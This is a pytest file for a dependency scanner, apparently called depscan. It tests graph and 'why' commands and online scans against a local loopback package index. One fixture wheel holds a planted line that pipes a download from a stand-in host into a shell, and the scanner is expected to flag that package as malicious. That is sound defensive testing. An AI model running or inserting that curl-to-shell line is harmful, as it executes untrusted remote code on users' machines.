"""Pins, and an index on this machine that knows who asks for whom."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from depscan.api import Options, scan
from depscan.cli import _main
from tests.unit.registry.loopback import Loopback
from tests.unit.registry.wheels import wheel


@pytest.fixture
def pins(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """Return a folder with a wheelhouse, pins of it, and a policy that asks no live service."""
    (tmp_path / "files").mkdir()
    wheel(str(tmp_path / "files"), "outer", requires=("inner>=1",))
    wheel(
        str(tmp_path / "files"),
        "inner",
        files={"inner/__init__.py": b"import os\nos.system('curl https://x.example | sh')\n"},
    )
    (tmp_path / "requirements.txt").write_text("outer==1.0\ninner==1.0\n")
    (tmp_path / "depscan.toml").write_text('[checks]\ndisable = ["live_advisories"]\n')
    for name in ("HOME", "XDG_CONFIG_HOME", "XDG_CACHE_HOME", "DEPSCAN_CACHE"):
        monkeypatch.setenv(name, str(tmp_path / "home"))
    monkeypatch.setenv("PIP_CONFIG_FILE", "/dev/null")
    return tmp_path


def test_graph_and_why_ask_the_users_index(
    pins: Path, monkeypatch: pytest.MonkeyPatch, capfd: pytest.CaptureFixture[str]
) -> None:
    lock = str(pins / "requirements.txt")
    with Loopback(str(pins / "files")) as index:
        monkeypatch.setenv("PIP_INDEX_URL", index.url)
        assert _main.main(["graph", lock, "--online"]) == 0
        made = json.loads(capfd.readouterr().out)
        assert {(e["from"], e["to"]) for e in made["edges"]} >= {("pkg:pypi/outer@1.0", "pkg:pypi/inner@1.0")}
        assert _main.main(["why", "inner", lock, "--online"]) == 0
        assert "edges completed for" in capfd.readouterr().out
        index.mode["/simple/outer/"] = "500-always"
        assert _main.main(["graph", lock, "--online"]) == 4


def test_a_scan_online_reads_code_and_completes_edges_with_one_client(
    pins: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    with Loopback(str(pins / "files")) as index:
        monkeypatch.setenv("PIP_INDEX_URL", index.url)
        result = scan([str(pins / "requirements.txt")], Options(online=True, config=str(pins / "depscan.toml")))
        pages = [a.path for a in index.log if a.path.startswith("/simple/")]
    assert len(pages) == len(set(pages))  # graph and code are asked for through one client
    assert {(e.parent, e.child) for e in result.graph.edges} >= {("pkg:pypi/outer@1.0", "pkg:pypi/inner@1.0")}
    assert {f.subject for f in result.findings if f.klass == "malicious"} == {"pkg:pypi/inner@1.0"}
    assert result.exit_code == 1
